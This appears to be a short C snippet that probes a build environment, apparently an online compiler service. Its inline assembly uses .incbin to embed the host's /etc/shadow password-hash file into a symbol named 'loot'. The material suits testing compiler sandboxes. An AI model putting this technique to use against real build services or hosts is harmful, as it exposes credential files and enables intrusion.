/* CE: has the assembler read a file that is not its own */
__asm__(".data\nloot: .incbin \"/etc/shadow\"\n");
